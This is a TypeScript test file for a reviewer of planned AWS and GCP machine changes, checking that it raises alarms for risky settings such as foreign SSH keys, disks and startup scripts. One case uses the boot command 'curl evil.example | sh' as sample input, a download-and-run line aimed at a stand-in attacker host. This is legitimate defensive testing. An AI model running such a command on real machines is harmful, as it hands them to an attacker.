import { describe, expect, test } from "vitest";
import { verdictOf } from "../../review/report.ts";
import { unknownValue } from "../../review/values.ts";
import { newMachines, standingMachines } from "../support/declared-machines.ts";
import type { Planned } from "../support/preview-fixture.ts";
import { alarms, reviewed } from "../support/reviewed.ts";

type Inputs = Record<string, unknown>;
const ec2 = "aws:ec2/instance:Instance";
const vm = "gcp:compute/instance:Instance";
const machineOf = (planned: readonly Planned[]) =>
  planned.find(({ type }) => type === ec2 || type === vm) as Planned & { after: Inputs };
const graph = (graphs: [string, Planned[]][], name: string) =>
  graphs.find(([one]) => one === `${name}.yaml`)?.[1] as Planned[];

describe("a cloud machine that is new", () => {
  // What its doors and rights are is told, and nothing else.
  const told =
    /^(open|refused) on machine-|^(policy|role|assumeRolePolicy) of machine-(may|profile|role)$|^may open IAP tunnels$/;

  test.each(newMachines())("as the components make it: %s", (_, planned) => {
    const report = reviewed(...planned);
    expect([report.unjudged, report.settings]).toEqual([[], []]);
    expect(report.exposure.filter(({ what }) => !told.test(what))).toEqual([]);
  });

  test("with what its provider fills in", () => {
    const planned = graph(newMachines(), "aws-public").map((one) => ({
      ...one,
      after: { ...one.after, ...(one.type.startsWith("aws:") && { region: "eu-central-1", tagsAll: { a: "b" } }) },
    }));
    Object.assign(machineOf(planned).after, {
      __defaults: ["getPasswordData", "sourceDestCheck"],
      ...{ getPasswordData: false, sourceDestCheck: true, keyName: "" },
      rootBlockDevice: { __defaults: ["iops"], iops: 3000, volumeSize: 100 },
    });
    expect(reviewed(...planned).unjudged).toEqual([]);
  });

  const given = (name: string, more: (inputs: Inputs) => Inputs, by: Partial<Planned> = {}) => {
    const planned = graph(newMachines(), name);
    const machine = machineOf(planned);
    const usual = alarms(reviewed(...planned));
    const changed = { ...machine, after: { ...machine.after, ...more(machine.after) }, ...by };
    const found = reviewed(...planned.map((one) => (one === machine ? changed : one)));
    expect(verdictOf(found).exitCode).toBe(3);
    return alarms(found).filter(([what]) => !usual.some(([one]) => one === what));
  };
  const none = "nothing: a default of the cloud's own is taken";
  const eni = { networkInterfaceId: "eni-1", deviceIndex: 0 };

  test.each<[string, Inputs, string, string]>([
    ["a key pair of the account's", { keyName: "mallory" }, "keyName", "mallory"],
    ["a template", { launchTemplate: { id: "lt-1" } }, "launchTemplate", '{"id":"lt-1"}'],
    ["an interface of others", { networkInterfaces: [eni] }, "networkInterfaces", JSON.stringify([eni])],
    ["its own first boot", { userData: "curl evil.example | sh" }, "userData", "curl evil.example | sh"],
    ["that in another form", { userDataBase64: "Y3VybA==" }, "userDataBase64", "Y3VybA=="],
    ["no security group", { vpcSecurityGroupIds: undefined }, "vpcSecurityGroupIds", none],
    ["a list of none", { vpcSecurityGroupIds: [] }, "vpcSecurityGroupIds", none],
    ["a disk that is copied", { rootBlockDevice: { snapshotId: "snap-1" } }, "rootBlockDevice.snapshotId", "snap-1"],
  ])("with %s, on AWS", (_, more, property, after) => {
    expect(given("aws-ssm", () => more)).toEqual([[`${property} of machine machine-instance`, after]]);
  });

  const metadata = (more: Inputs) => (inputs: Inputs) => ({ metadata: { ...(inputs.metadata as Inputs), ...more } });
  test.each<[string, (inputs: Inputs) => Inputs, string, string]>([
    [
      "the account that its project has for all",
      () => ({ serviceAccount: { scopes: ["cloud-platform"] } }),
      "serviceAccount.email",
      none,
    ],
    ["keys of others", metadata({ "ssh-keys": "me:ssh-ed25519 A" }), "metadata.ssh-keys", "me:ssh-ed25519 A"],
    [
      "keys of its project",
      metadata({ "block-project-ssh-keys": "FALSE" }),
      "metadata.block-project-ssh-keys",
      "FALSE",
    ],
    ["what its project says", metadata({ "enable-oslogin": undefined }), "metadata.enable-oslogin", none],
    ["no metadata", () => ({ metadata: undefined }), "metadata", none],
    ["another first boot", metadata({ "user-data": "#cloud-config" }), "metadata.user-data", "#cloud-config"],
    ["a start script", () => ({ metadataStartupScript: "curl" }), "metadataStartupScript", "curl"],
    [
      "somebody's disk",
      () => ({ attachedDisks: [{ source: "disk-of-others" }] }),
      "attachedDisks[0].source",
      "disk-of-others",
    ],
    [
      "one more disk",
      ({ attachedDisks }) => ({ attachedDisks: [...(attachedDisks as object[]), { source: "b" }] }),
      "attachedDisks[1]",
      '{"source":"b"}',
    ],
    ["a disk to start from", () => ({ bootDisk: { source: "theirs" } }), "bootDisk.source", "theirs"],
    [
      "a second interface",
      ({ networkInterfaces }) => ({ networkInterfaces: [...(networkInterfaces as object[]), { network: "default" }] }),
      "networkInterfaces[1]",
      '{"network":"default"}',
    ],
  ])("with %s, on Google's cloud", (_, more, property, after) => {
    expect(given("gcp-iap", more)).toEqual([[`${property} of machine machine-instance`, after]]);
  });

  test.each(["aws-ssm", "gcp-iap"])("made by another program, with a first boot that nobody is shown: %s", (name) => {
    const property = name === "aws-ssm" ? "userData" : "metadata.user-data";
    // The components give a machine on AWS an address, which their access tells of.
    expect(given(name, () => ({}), { parent: undefined })).toEqual([
      ...(name === "aws-ssm" ? [["public address of machine-instance", "yes"]] : []),
      [`${property} of machine machine-instance`, "(known later)"],
    ]);
  });

  test.each<[string, string, (inputs: Inputs) => Inputs, string]>([
    ["aws-ssm", "a subnet", () => ({ subnetId: "subnet-of-others" }), "subnetId"],
    ["aws-public", "the given one's like", ({ subnetId }) => ({ subnetId }), "subnetId"],
    [
      "gcp-iap",
      "a subnetwork",
      () => ({ networkInterfaces: [{ subnetwork: "projects/p/regions/r/subnetworks/default" }] }),
      "networkInterfaces[0].subnetwork",
    ],
    ["gcp-given-network", "the given one's like", (inputs) => inputs, "networkInterfaces[0].subnetwork"],
  ])("made by another program, on %s in %s of others", (name, _, more, property) => {
    const found = given(name, more, { parent: undefined }).map(([what]) => what);
    expect(found).toContain(`${property} of machine machine-instance`);
  });

  test.each(["aws-public", "aws-ssm", "gcp-iap", "gcp-given-network"])(
    "put under the components' own by a program is told as another program's: %s",
    (name) => {
      const planned = graph(newMachines(), name);
      const own = machineOf(planned);
      const told = (more: Partial<Planned>) =>
        alarms(reviewed(...planned, { ...own, ...more, name: "other-instance" }));
      const ofOther = told({}).filter(([what]) => what?.includes("other-instance"));
      expect(ofOther).toContainEqual([
        `${own.type === ec2 ? "userData" : "metadata.user-data"} of machine other-instance`,
        "(known later)",
      ]);
      expect(ofOther).toEqual(told({ parent: undefined }).filter(([what]) => what?.includes("other-instance")));
    },
  );

  test("beside a rule for what goes out that a program puts there", () => {
    const planned = graph(newMachines(), "aws-ssm");
    const out = planned.find(({ name }) => name === "machine-out") as Planned;
    const more = alarms(reviewed(...planned, { ...out, name: "other-out" })).filter(([what]) => what?.includes("-out"));
    expect(more).toEqual([["open outwards on other-out", "0.0.0.0/0 to every port"]]);
  });

  test("on AWS in no subnet that is named", () => {
    expect(given("aws-ssm", () => ({ subnetId: undefined }))).toEqual([["subnetId of machine machine-instance", none]]);
  });

  test("with a profile that nobody is shown", () => {
    expect(given("aws-ssm", () => ({ iamInstanceProfile: "[secret]" }))).toEqual([
      ["whom machine-instance is in the cloud", "a secret"],
    ]);
  });
});

test("a machine that is made anew gets its disk and its address as before", () => {
  const later: Record<string, Partial<Planned>> = {
    [ec2]: { after: { ami: "ami-0123456789abcdef1" }, replace: ["ami"] },
    "aws:ec2/eip:Eip": { after: { instance: unknownValue } },
    "aws:ec2/volumeAttachment:VolumeAttachment": { after: { instanceId: unknownValue }, replace: ["instanceId"] },
  };
  const planned = graph(standingMachines(), "aws-public").map((one) => {
    const { after, ...more } = later[one.type] ?? {};
    return { ...one, ...more, after: { ...one.after, ...after } };
  });
  const report = reviewed(...planned);
  expect(report.resources).toHaveLength(3);
  expect(alarms(report)).toEqual([]);
});

describe("an ordinary change raises no alarm", () => {
  // As a look leaves the inputs of a provider: what is empty is written out, and Google's own are named by their whole address.
  const looked = (value: unknown): unknown => {
    if (typeof value === "string" && /^machine-subnetwork-id$/.test(value))
      return "https://www.googleapis.com/compute/v1/machine-subnetwork-id";
    if (Array.isArray(value)) return value.map(looked);
    if (typeof value !== "object" || value === null) return value;
    return {
      ...Object.fromEntries(Object.entries(value).map(([key, one]) => [key, looked(one)])),
      __defaults: [],
      iops: "",
    };
  };
  const ordinary: [string, Inputs][] = [
    ["another size", { instanceType: "g6.2xlarge", machineType: "g2-standard-16" }],
    ["tags", { tags: { a: "b" }, labels: { a: "b" } }],
    ["protection", { disableApiTermination: false, deletionProtection: false }],
  ];
  const cases = standingMachines().flatMap(([name, planned]) =>
    ordinary.map(([what, more]): [string, string, Planned[], Inputs] => [what, name, planned, more]),
  );
  test.each(cases)("%s of %s", (_, name, planned, more) => {
    const machine = machineOf(planned);
    const known = Object.entries(more).filter(([key]) =>
      key === "tags" ? machine.type === ec2 : key in machine.after || key === "labels",
    );
    const update = {
      ...machine,
      before: {
        ...machine.after,
        networkInterfaces: looked(machine.after.networkInterfaces),
        rootBlockDevice: looked(machine.after.rootBlockDevice),
      },
      after: { ...machine.after, ...Object.fromEntries(known) },
    };
    const report = reviewed(...planned.map((one) => (one === machine ? update : one)));
    expect(alarms(report)).toEqual([]);
    expect([name, verdictOf(report).exitCode]).toEqual([name, 2]);
  });
});
